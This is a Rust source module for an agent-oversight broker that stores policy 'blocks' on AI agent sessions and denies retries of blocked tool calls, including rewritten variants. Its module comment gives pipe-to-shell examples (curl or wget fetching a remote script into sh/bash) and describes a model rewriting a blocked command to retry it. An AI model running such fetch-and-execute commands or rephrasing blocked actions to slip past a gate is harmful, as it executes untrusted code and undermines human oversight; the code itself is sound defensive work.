//! Active blocks and the retry gate.
//!
//! A block is what a policy decision leaves behind: "session S may not retry X (and things
//! like X) until …". Its scope is stored as extracted *objects* (normalized commands,
//! executables and their families, files read or written, hosts, URLs), taken from the
//! correlated tool call and from the event itself, so the gate can recognize a variant of the
//! blocked action that the model rewrote: `wget -qO- http://x/a.sh | bash` after
//! `curl http://x/a.sh | sh` was blocked, or `sed -i … README.md` after an edit of `README.md`.
//!
//! [`gate`] decides allow/deny for a proposed tool call from the broker's blocks only — never
//! from what the model says (DESIGN §5.9). This module does not evaluate policies (it receives
//! a decided [`BlockSpec`]), does not sign or deliver directives, and does no HTTP.

pub mod active;
pub mod gate;
pub mod objects;

use crate::event::SecurityEvent;
use crate::sessions::model::{CommandRecord, Session};
use objects::Objects;
use serde::{Deserialize, Serialize};
use time::OffsetDateTime;
use uuid::Uuid;

/// What kind of restriction a block is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum BlockKind {
    /// Deny retries of the blocked action within its scope.
    DoNotRetry,
    /// Deny every tool call of the session.
    HaltSession,
}

/// How widely a do-not-retry block reaches (the policy's `scope`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum ScopeKind {
    /// The same normalized command.
    Command,
    /// The same command, or the same executable (or family) aimed at an overlapping target,
    /// or any write to a file the blocked action wrote.
    Similar,
    /// Anything reading or writing the same files.
    Path,
    /// Anything naming the same hosts or URLs.
    Host,
    /// Anything running the same executable (or its family).
    Binary,
    /// Every mutating tool call of the session.
    Session,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum BlockStatus {
    Active,
    Cleared,
    Expired,
}

/// A decided restriction, before it becomes a [`Block`] (what the pipeline hands over).
#[derive(Debug, Clone)]
pub struct BlockSpec {
    pub kind: BlockKind,
    pub scope: ScopeKind,
    /// `None` = never retry; `Some(t)` = retrying is allowed again from `t`.
    pub retry_after: Option<OffsetDateTime>,
    /// `None` = until a SOC analyst clears it.
    pub expires_at: Option<OffsetDateTime>,
    pub policy_id: String,
    /// Identifies the exact policy files that decided (DESIGN: recorded on every block).
    pub policy_hash: String,
    /// SOC-written text from the policy (trusted).
    pub note: Option<String>,
}

/// One active (or past) block.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, utoipa::ToSchema)]
pub struct Block {
    pub block_id: Uuid,
    pub session_id: Uuid,
    pub event_id: Uuid,
    /// The tool call the event was correlated to, when known.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub call_id: Option<String>,
    pub kind: BlockKind,
    pub scope: ScopeKind,
    /// What the block recognizes; see the module doc.
    pub objects: Objects,
    #[serde(default, with = "time::serde::rfc3339::option", skip_serializing_if = "Option::is_none")]
    #[schema(value_type = Option<String>, format = DateTime)]
    pub retry_after: Option<OffsetDateTime>,
    #[serde(default, with = "time::serde::rfc3339::option", skip_serializing_if = "Option::is_none")]
    #[schema(value_type = Option<String>, format = DateTime)]
    pub expires_at: Option<OffsetDateTime>,
    pub policy_id: String,
    pub policy_hash: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
    pub status: BlockStatus,
    #[serde(with = "time::serde::rfc3339")]
    #[schema(value_type = String, format = DateTime)]
    pub created_at: OffsetDateTime,
    #[serde(default, with = "time::serde::rfc3339::option", skip_serializing_if = "Option::is_none")]
    #[schema(value_type = Option<String>, format = DateTime)]
    pub ended_at: Option<OffsetDateTime>,
    /// Who cleared it (the SOC token's subject).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cleared_by: Option<String>,
}

impl Block {
    /// Builds a block for `session` from the event, its correlated call and the decision.
    pub fn new(
        spec: BlockSpec,
        session: &Session,
        event: &SecurityEvent,
        call: Option<&CommandRecord>,
        now: OffsetDateTime,
    ) -> Block {
        let mut objects = Objects::of_event(event, Some(&session.cwd));
        if let Some(call) = call {
            objects.merge(Objects::of_call(call, &session.cwd));
        }
        Block {
            block_id: Uuid::now_v7(),
            session_id: session.session_id,
            event_id: event.id,
            call_id: call.map(|c| c.call_id.clone()),
            kind: spec.kind,
            scope: spec.scope,
            objects,
            retry_after: spec.retry_after,
            expires_at: spec.expires_at,
            policy_id: spec.policy_id,
            policy_hash: spec.policy_hash,
            note: spec.note,
            status: BlockStatus::Active,
            created_at: now,
            ended_at: None,
            cleared_by: None,
        }
    }

    /// Whether the block denies anything at `now`.
    pub fn in_force(&self, now: OffsetDateTime) -> bool {
        self.status == BlockStatus::Active
            && self.retry_after.is_none_or(|t| now < t)
            && self.expires_at.is_none_or(|t| now < t)
    }
}

#[cfg(test)]
mod tests;
